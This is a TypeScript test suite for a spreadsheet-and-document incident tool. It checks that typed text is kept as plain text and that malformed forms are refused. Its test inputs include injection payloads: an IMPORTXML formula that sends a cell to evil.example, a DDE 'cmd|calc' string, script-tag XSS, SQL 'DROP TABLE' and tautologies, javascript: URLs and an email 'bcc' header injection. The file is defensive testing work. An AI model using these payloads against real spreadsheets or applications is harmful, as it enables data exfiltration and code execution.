import type {sheets_v4} from 'googleapis/build/src/apis/sheets/v4';
import type {Answer} from '../../../src/core/base/answer';
import type {IncidentView} from '../../../src/core/incident/views';
import type {NewIncidentForm} from '../../../src/declare/contract';
import type {RestampView, SidebarView} from '../../../src/upkeep/contract';
import {aForm} from '../../scenery/bundle/a-form';
import {
  ADMIN,
  cardsOf,
  installedOffice,
  LEAD,
  type Office,
} from '../../scenery/bundle/office';
import {filesOf, rowsOf, textOf} from '../../scenery/bundle/what-is-there';
import {sampled} from '../../scenery/sampled';

const ID = 'INC-2026-0001';

function declared(changes: Partial<NewIncidentForm>): Office {
  const office = installedOffice();
  const view = office.value<IncidentView>(LEAD, 'declareIncident', [
    aForm({technical: true, ...changes}),
  ]);
  expect(view.complete).toBe(true);
  return office;
}

function problemsOf(changes: object): readonly string[] {
  const office = installedOffice();
  const before = office.files().length;
  const answer = office.answer<IncidentView>(LEAD, 'declareIncident', [
    {...aForm(), ...changes},
  ]);
  if (answer.ok) throw new Error('It was declared.');
  expect(rowsOf(office, office.places.registerId, 'incidents')).toEqual([]);
  expect(office.files().length).toBe(before);
  return (answer.fields ?? []).map(({field}) => field);
}

function documentsOf(office: Office): Readonly<Record<string, string>> {
  return Object.fromEntries(
    filesOf(office, ID)
      .filter(({mimeType}) => mimeType.endsWith('document'))
      .map(file => [office.mark(file).icKind, file.id]),
  );
}

function sidebar(office: Office): SidebarView {
  return office.value<SidebarView>(LEAD, 'sidebarView', [], {
    container: {fileId: documentsOf(office).internal, kind: 'document'},
  });
}

/** Every formula in any cell of the register. */
function formulas(office: Office): readonly string[] {
  const book = office.rest<sheets_v4.Schema$Spreadsheet>(
    ADMIN,
    'GET',
    `/v4/spreadsheets/${office.places.registerId}?fields=sheets.data.rowData.values.userEnteredValue`,
  );
  return (book.sheets ?? [])
    .flatMap(({data}) => data ?? [])
    .flatMap(({rowData}) => rowData ?? [])
    .flatMap(({values}) => values ?? [])
    .flatMap(({userEnteredValue}) => userEnteredValue?.formulaValue ?? []);
}

const CODE = [
  '=HYPERLINK("https://evil.example","Click")',
  '=IMPORTXML("https://evil.example/?"&A1;"/")',
  '+cmd|calc',
  '-2+3',
  '@SUM(1;2)',
  "'quoted",
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '<?= evil ?>',
  '"; DROP TABLE incidents; --',
  '${1+1} $1 $& \\1',
  '__proto__',
  'ready',
  'pending op-00000001 2099-01-01T00:00:00Z',
];

describe('text that would be code elsewhere', () => {
  it.each(sampled(CODE, 6))('stands as it was typed, everywhere: %s', text => {
    const office = declared({
      title: text,
      known: text,
      services: [text],
      affected: text,
      comms: {needed: true, reason: text},
    });
    expect(formulas(office)).toEqual([]);
    const [row] = rowsOf(office, office.places.registerId, 'incidents');
    expect(row.setup).toBe('ready');
    // What a spreadsheet would run is shown with an apostrophe before it.
    expect([text, `'${text}`]).toContain(row.title);
    const {incident, edit} = sidebar(office);
    expect(incident?.title).toBe(text);
    expect(edit?.services).toEqual([text]);
    for (const fileId of Object.values(documentsOf(office))) {
      expect(textOf(office, fileId)).toContain(text);
    }
  });

  it('reaches no script of the page that opens the form: people and services come as data', () => {
    const office = installedOffice();
    const opened = office.run(LEAD, 'openNewIncident', [], {
      container: {fileId: office.places.registerId, kind: 'spreadsheet'},
      surface: 'menu',
    });
    expect(opened.effects).toHaveLength(1);
    const [dialog] = opened.effects;
    expect(dialog.kind === 'dialog' && dialog.html).not.toContain('<?');
  });

  it('stands as text on the card', () => {
    const office = declared({title: '<b>Bold</b> & <a href="//x">link</a>'});
    const [{cards}] = cardsOf(office, LEAD, 'docs');
    expect(JSON.stringify(cards)).toContain('&lt;b&gt;Bold&lt;/b&gt; &amp;');
    expect(JSON.stringify(cards)).not.toContain('<b>');
  });
});

describe('fields in values', () => {
  const text =
    'See {{incident.id}}, {{role.commander}}, {{ROLE.SME}}, {{{x}}} and %7B%7Bincident.id%7D%7D';
  const form = {
    title: text,
    known: text,
    links: [{label: '{{role.sme}}', url: 'https://t.example.com/{{role.sme}}'}],
    roles: {...aForm().roles, scribe: '{{incident.severity}}'},
  };

  it('are never filled in, neither at first nor when values are renewed', () => {
    const office = declared(form);
    const before = sidebar(office);
    expect(before.document?.looseFields).toEqual([]);
    if (!before.edit) throw new Error('No edit is offered.');
    const {
      failed,
      handEdits,
      sidebar: after,
    } = office.value<RestampView>(
      LEAD,
      'changeMetadata',
      [
        {
          incidentId: ID,
          rev: before.rev,
          form: {
            ...before.edit,
            severity: 'level-3',
            phase: 'triage',
            workaround: text,
          },
          decisions: {},
        },
      ],
      {container: {fileId: documentsOf(office).internal, kind: 'document'}},
    );
    expect([failed, handEdits]).toEqual([[], []]);
    expect(after.document?.looseFields).toEqual([]);
    const {customer} = documentsOf(office);
    expect(textOf(office, customer)).toContain(text);
    const internal = textOf(office, documentsOf(office).internal);
    expect(internal).toContain(text);
    expect(internal).toContain('{{incident.severity}}');
    expect(internal).toContain('{{role.sme}}');
  });

  it('bring no name into what customers read (S0-19)', () => {
    const office = declared(form);
    const {customer, technical} = documentsOf(office);
    for (const fileId of [customer, technical]) {
      expect(textOf(office, fileId)).not.toMatch(/@example\.com/);
    }
  });
});

describe('text of every kind', () => {
  const kept =
    'Zürich 🔥 👩‍🚒👨‍👩‍👧‍👦 🇨🇭 عربي עברית é ñ̃ ﷽ 漢字 … “quotes”\nsecond line\n\nafter an empty one';
  // Control characters, a lone half of a pair, and marks that turn the direction of what follows.
  const typed = `\u0000\u0007${kept.replace(/\n/g, '\r\n')}\u202e\u0085\ufeff`;

  it('is kept whole, without what no document can hold', () => {
    const office = declared({known: typed, title: 'Half a pair \ud83d here'});
    const [row] = rowsOf(office, office.places.registerId, 'incidents');
    expect(row.known).toBe(kept);
    expect(row.title).toBe('Half a pair \ufffd here');
    const {internal} = documentsOf(office);
    // In a document the lines of one value are one paragraph.
    expect(textOf(office, internal)).toContain(kept.replace(/\n/g, '\u000b'));
    expect(sidebar(office).incident?.title).toBe('Half a pair \ufffd here');
  });

  it('may be ten thousand characters long, in the row and in the document, and is renewed', () => {
    const unit = '👩‍🚒 é אב = ';
    const long = unit.repeat(Math.ceil(10_000 / unit.length));
    const known = `${long.slice(0, 9_984)}END OF THE TEXT`;
    expect(known.length).toBeLessThanOrEqual(10_000);
    const office = declared({known});
    const [row] = rowsOf(office, office.places.registerId, 'incidents');
    expect(row.known).toBe(known);
    expect(textOf(office, documentsOf(office).internal)).toContain(known);
    expect(sidebar(office).edit?.title).toBe(aForm().title);
  });

  it('is refused beside its field when it is longer, and nothing is written', () => {
    expect(
      problemsOf({known: 'x'.repeat(10_001), title: 'y'.repeat(201)}),
    ).toEqual(['title', 'known']);
  });
});

describe('forms nobody could have filled in', () => {
  it.each<[string, object, readonly string[]]>([
    [
      'links that run code',
      {
        links: [
          {label: 'a', url: 'javascript:alert(1)'},
          {label: 'b', url: ' data:text/html,<script>'},
          {label: 'c', url: 'https://ok.example/x y'},
        ],
      },
      ['links.0.url', 'links.1.url', 'links.2.url'],
    ],
    [
      'addresses with quotes and line ends',
      {
        people: [
          '"a b"@example.com',
          "o'neil@example.com\nbcc: all@example.com",
          'a@b@c.example',
        ],
      },
      ['people.0', 'people.1', 'people.2'],
    ],
    [
      'lists without end',
      {services: Array.from({length: 5_000}, (_, nth) => `s${nth}`)},
      ['services'],
    ],
    [
      'an operation that is a query',
      {operation: "x' or '1'='1"},
      ['operation'],
    ],
    ['an unknown level', {severity: '__proto__'}, ['severity']],
    ['an unknown kind', {kind: 'toString'}, ['kind']],
    ['numbers that are none', {percentUsers: '1e9'}, ['percentUsers']],
    [
      'times that are none',
      {startedAt: 'yesterday', detectedAt: '9999-99-99T99:99:99Z'},
      ['startedAt', 'detectedAt'],
    ],
    ['another shape', {roles: null, links: 'no'}, ['roles', 'links']],
  ])('are refused beside their fields: %s', (_, changes, fields) => {
    expect([...problemsOf(changes)].sort()).toEqual([...fields].sort());
  });

  it.each([undefined, null, 7, 'form', [], {}])(
    'are refused whole when they are %j',
    input => {
      const office = installedOffice();
      const answer = office.answer(LEAD, 'declareIncident', [input]);
      expect(answer).toMatchObject({
        ok: false,
        what: 'The incident was not declared yet.',
      });
    },
  );

  it('keep an apostrophe in an address, and share with it', () => {
    const office = installedOffice();
    const email = "o'neil@example.com";
    const displayName = "Sean O'Neil";
    office.workspace.directory.add({
      email,
      displayName,
      title: 'Engineer',
      department: 'Engineering',
    });
    const {complete} = office.value<IncidentView>(LEAD, 'declareIncident', [
      aForm({people: [email]}),
    ]);
    expect(complete).toBe(true);
    const [file] = filesOf(office, ID);
    expect(office.workspace.gate.roleOf(email, file.id)).toBe('writer');
  });

  it.each([
    'finishIncident',
    'declarationProgress',
    'changeMetadata',
    'addTimelineEntry',
    'selectText',
    'runSetup',
    'setupProgress',
  ])('never break %s, which any page may call', name => {
    const office = installedOffice();
    const before = office.files().length;
    for (const input of [undefined, null, '', {}, [], "' or ''='"]) {
      const {outcome} = office.run(LEAD, name, [input]);
      expect(outcome.ok && (outcome.value as Answer<unknown>)).toEqual(
        expect.objectContaining({ok: expect.any(Boolean)}),
      );
    }
    expect(office.files().length).toBeLessThanOrEqual(before);
  });
});
